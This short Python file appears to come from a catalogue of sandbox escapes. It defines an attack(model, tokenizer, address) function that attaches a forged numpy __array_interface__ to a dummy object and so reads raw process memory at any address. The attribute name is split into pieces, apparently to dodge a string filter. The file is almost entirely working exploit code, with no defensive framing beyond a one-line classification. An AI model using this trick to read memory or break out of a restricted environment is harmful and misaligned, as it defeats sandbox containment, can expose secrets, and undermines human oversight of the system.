"""Class: memory. Source: own find. Escape: an own object is given the name by which numpy finds
memory."""

import numpy as np


class A:
    pass


def attack(model, tokenizer, address):
    a = A()
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    setattr(a, "__array_" + "interface__", spec)
    return np.array(a).tobytes()
